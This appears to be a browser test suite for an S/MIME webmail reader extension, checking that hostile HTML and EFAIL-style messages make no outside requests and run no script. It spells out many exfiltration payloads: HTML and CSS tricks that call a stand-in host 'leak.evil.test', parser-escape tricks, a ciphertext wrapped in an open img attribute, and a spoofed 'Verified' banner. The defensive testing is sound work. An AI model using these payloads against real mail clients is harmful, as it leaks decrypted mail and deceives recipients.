import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { root } from "../../lab/folder.mjs";
import type { BrowserName } from "../driver/launch.ts";
import { html } from "./mail.ts";
import { makeStand, READER, type Stand, verdict } from "./stand.ts";

const corpus = join(root, "../shared/corpora/smime-attacks");
const corpora = existsSync(corpus);
if (!corpora) console.log("skipped: the attackers' messages, as ../shared/corpora is not here");

/** Ways in which HTML makes a browser ask somebody; each asks for its own path. */
const ASKS: Record<string, (url: string) => string> = {
  img: (url) => `<img src="${url}">`,
  "img without scheme": (url) => `<img src="${url.replace("http:", "")}">`,
  srcset: (url) => `<img srcset="${url} 1x"><picture><source srcset="${url}"><img></picture>`,
  "meta refresh": (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  link: (url) => `<link rel="stylesheet" href="${url}"><link rel="prefetch" href="${url}"><link rel="preload" as="image" href="${url}"><link rel="icon" href="${url}"><link rel="prerender" href="${url}">`,
  "link to a name": () => `<link rel="dns-prefetch" href="//leak.evil.test"><link rel="preconnect" href="http://leak.evil.test">`,
  import: (url) => `<style>@import url("${url}"); @import "${url}";</style>`,
  "font face": (url) => `<style>@font-face{font-family:x;src:url(${url})} *{font-family:x}</style>`,
  "css url": (url) => `<style>body{background:url(${url})} p::before{content:url(${url})} li{list-style-image:url(${url})} :root{--x:url(${url});cursor:url(${url}),auto}</style><div style="background-image:image-set('${url}' 1x)">x</div>`,
  "css escapes": (url) => `<div style="background:u\\72l(${url})">x</div><style>div{background:\\75rl("${url}")}</style>`,
  "css nesting": (url) => `<style>body{& p{background:url(${url})}} @media all{@supports (display:block){p{background:url(${url})}}} @layer a{p{background:url(${url})}}</style><p>x</p>`,
  svg: (url) => `<svg><image href="${url}"/><use href="${url}#x"/><style>@import "${url}"</style><foreignObject><img src="${url}"></foreignObject></svg>`,
  mathml: (url) => `<math><mtext><img src="${url}"></mtext><maction actiontype="statusline" xlink:href="${url}">x</maction></math>`,
  base: (url) => `<base href="${url}/"><img src="relative.png">`,
  form: (url) => `<form action="${url}"><input name=q value=secret autofocus onfocus="this.form.submit()"><button>x</button></form><script>document.forms[0].submit()</script>`,
  frames: (url) => `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}"><iframe srcdoc="<img src='${url}'>"></iframe>`,
  media: (url) => `<video src="${url}" poster="${url}" autoplay></video><audio src="${url}" autoplay></audio>`,
  table: (url) => `<table background="${url}"><tr><td background="${url}">x</td></tr></table><body background="${url}">`,
  script: (url) => `<script src="${url}"></script><img src=x onerror="new Image().src='${url}'"><svg onload="fetch('${url}')">`,
  "broken parser": (url) => `<noscript><p title="</noscript><img src='${url}'>"></noscript><math><mi><style><!--</style><img title="--&gt;&lt;img src=${url}&gt;">`,
  "out of the style": (url) => `<style>a{color:red}</style/><img src="${url}"><style>x{font-family:"</style><img src='${url}'>"}</style>`,
  "split over parts": (url) => `<img src="${url}/`,
};

describe.each<BrowserName>(["chromium", "firefox"])("hostile HTML in the reader, %s", (name) => {
  let stand: Stand;
  beforeAll(async () => {
    stand = await makeStand(name);
  });
  afterAll(() => stand?.close());

  const watched = (): string[] => [
    ...stand.webmail.requests.filter((each) => each.startsWith("/leak")),
    ...stand.outside.requests.map(({ url }) => url).filter((url) => /evil|leak/.test(url)),
  ];
  // A browser may ask once more for what was refused, and later: the control's requests are told apart by their name.
  const asked = (): string[] => watched().filter((url) => !url.includes("control"));

  it("the network is watched: a page that asks is seen", async () => {
    const page = await stand.open(stand.webmail.document(`<img src="${stand.webmail.origin}/leak?control"><img src="http://leak.evil.test/control">`));
    for (const end = Date.now() + 10_000; watched().length < 2 && Date.now() < end; ) await sleep(50);
    await page.close();
    expect(watched().length).toBeGreaterThanOrEqual(2);
    expect(asked()).toEqual([]);
  });

  it("asks nobody, in every way that HTML has, and of an encrypted text offers no remote pictures", async () => {
    const all = Object.entries(ASKS).map(([way, write], index) => `<h3>${way}</h3>${write(`${stand.webmail.origin}/leak?${index}`)}${write(`http://leak.evil.test/${index}`)}`).join("\n");
    // The last one opens an attribute that swallows what follows, as EFAIL's direct exfiltration does.
    // With GCM, since what CBC encrypts is drawn without HTML.
    const uid = stand.webmail.add(await stand.mail.encrypt(html(`<html><head>${ASKS["link"]?.("http://leak.evil.test/head")}</head><body>${all}`), {}, "aes-256-gcm"));
    const page = await stand.open(stand.webmail.show(uid));
    const reader = await page.frame(READER);
    expect(await verdict(reader)).toBe("sentence_encrypted_only");
    await sleep(1500);
    expect(asked()).toEqual([]);
    expect(await reader.exists('[data-test="load-remote"]')).toBe(false);
    await page.close();
  });

  it("a text that anybody may have changed is drawn as text, without a tag or an address of its own (EFAIL, CBC; UI-08)", async () => {
    const page = await stand.open(stand.webmail.show(stand.webmail.add(await stand.mail.encrypt(html(`<p>SECRET</p><img src="${stand.webmail.origin}/leak?cbc"><a href="http://leak.evil.test/cbc">more</a>`)))));
    const reader = await page.frame(READER);
    expect(await verdict(reader)).toBe("sentence_encrypted_only");
    const drawn = await reader.evaluate(() => {
      const frame = document.querySelector('[data-test="reader-body"] iframe') as HTMLIFrameElement;
      const body = new DOMParser().parseFromString(frame.srcdoc, "text/html").body;
      return { text: body.textContent, tags: body.querySelectorAll("img, a, style, [href], [src]").length };
    });
    expect(drawn.text).toContain("SECRET");
    expect(drawn.tags).toBe(0);
    expect(asked()).toEqual([]);
    await page.close();
  });

  it("asks nobody for the parts around a ciphertext either (EFAIL, direct)", async () => {
    const inner = (await stand.mail.encrypt(html("SECRET"))).toString("latin1");
    const entity = inner.slice(inner.search(/^MIME-Version/m)).replace(/^MIME-Version:.*\r\n/, "");
    const part = (text: string): string => `--b\r\nContent-Type: text/html\r\n\r\n${text}\r\n`;
    const message = `From: eve@evil.test\r\nTo: bob@lab.test\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n${part(`<img src="${stand.webmail.origin}/leak?`)}--b\r\n${entity}\r\n${part('">')}--b--\r\n`;
    const page = await stand.open(stand.webmail.show(stand.webmail.add(Buffer.from(message, "latin1"))));
    const reader = await page.frame(READER);
    await verdict(reader);
    // The ciphertext stays closed in its own frame, and says why.
    await reader.waitFor('[data-test="reader-part"] [data-code="smime.part-not-opened"]');
    await sleep(1000);
    expect(asked()).toEqual([]);
    // Each part is a document of its own.
    const sources = await reader.evaluate(() => Array.from(document.querySelectorAll<HTMLIFrameElement>("iframe"), (frame) => [frame.srcdoc.includes("SECRET"), /<img[^>]*leak/.test(frame.srcdoc), frame.getAttribute("sandbox")]));
    expect(sources.length).toBeGreaterThan(0);
    for (const [secret, leaks, sandbox] of sources) {
      expect(secret).toBe(false);
      expect(leaks).toBe(false);
      expect(sandbox).not.toMatch(/allow-(scripts|same-origin|forms|top-navigation)/);
    }
    await page.close();
  });

  it("draws nothing outside of its own frame, links nowhere but to the web, and runs nothing", async () => {
    const attack = `<div style="position:fixed;top:-400px;left:0;width:100%;height:600px;z-index:2147483647;background:#fff">Verified: signed by Alice Example</div>
      <a id=a href="javascript:parent.location='http://leak.evil.test/js'">1</a><a href="data:text/html,<script>1</script>">2</a><a href="${stand.driver.extension}/reader.html">3</a>
      <a href="blob:${stand.webmail.origin}/x">4</a><a href="https://example.org/" target="_top" ping="http://leak.evil.test/ping">5</a><img src="cid:../../etc" onerror="parent.postMessage('x','*')">
      <script>parent.document.title = "broken"</script>`;
    const page = await stand.open(stand.webmail.show(stand.webmail.add(await stand.mail.signed(html(attack), "alice"))));
    const reader = await page.frame(READER);
    expect(await verdict(reader)).toBe("sentence_text_signed");
    const seen = await reader.evaluate(() => {
      const bar = document.querySelector('[data-test="reader-bar"]') as HTMLElement;
      const { left, top, width, height } = bar.getBoundingClientRect();
      const over = document.elementFromPoint(left + width / 2, top + height / 2);
      const drawn = new DOMParser().parseFromString(document.querySelector("iframe")?.srcdoc ?? "", "text/html");
      return {
        bar: bar.contains(over),
        links: Array.from(drawn.links, (link) => [link.getAttribute("href"), link.target, link.rel, link.hasAttribute("ping")]),
        scripts: drawn.querySelectorAll("script, [onerror], [onload]").length,
        title: document.title,
      };
    });
    expect(seen).toMatchObject({ bar: true, scripts: 0, links: [["https://example.org/", "_blank", "noopener noreferrer", false]] });
    expect(seen.title).not.toBe("broken");
    expect(asked()).toEqual([]);
    await page.close();
  });

  it.skipIf(!corpora)("the attackers' messages: none is called verified, and none asks anybody", async () => {
    const files = readdirSync(corpus).filter((file) => file.endsWith(".eml"));
    expect(files.length).toBeGreaterThan(20);
    // What the reader is given does not depend on the type that a webmail lists.
    for (const file of name === "chromium" ? files : files.filter((each) => /^(c|m|i1|i3)/.test(each))) {
      const uid = stand.webmail.add(Buffer.from(readFileSync(join(corpus, file), "latin1").replace(/\r?\n/g, "\r\n"), "latin1"));
      const page = await stand.open(stand.webmail.show(uid));
      const reader = await page.frame(READER);
      await reader.waitFor('[data-test="sentence"], [data-test="problem"]');
      await sleep(150);
      const shown = await reader.evaluate(() => ({ key: document.querySelector<HTMLElement>('[data-test="sentence"]')?.dataset["key"] ?? "" }));
      // Their certificates have expired, so here nothing may verify at all; at their time the command line judges them.
      expect(/^sentence_(verified|text_signed)/.test(shown.key), `${file}: ${shown.key}`).toBe(false);
      await page.close();
    }
    expect(stand.outside.requests.filter(({ url }) => !/mozilla|google|firefox|leak\.evil\.test\/control/.test(url)).map(({ url }) => url)).toEqual([]);
  });
});
